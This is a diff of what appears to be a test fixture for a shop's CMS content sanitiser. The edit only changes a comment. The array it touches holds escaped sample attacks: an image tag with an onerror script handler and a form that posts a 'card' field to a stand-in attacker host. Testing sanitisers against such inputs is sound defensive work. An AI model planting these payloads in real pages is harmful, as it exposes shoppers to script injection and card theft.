@@ -1,4 +1,4 @@
-/** A page whose CMS content tries to get through the sanitiser; only the tests' own shop has it. */
+/** A page whose CMS content attacks the sanitiser. Only the shop under test has it. */
 const CONTENT = [
   '&lt;img src=x onerror="document.title=1"&gt;',
   '&lt;form action="https://evil.example"&gt;&lt;input name="card"&gt;&lt;/form&gt;',
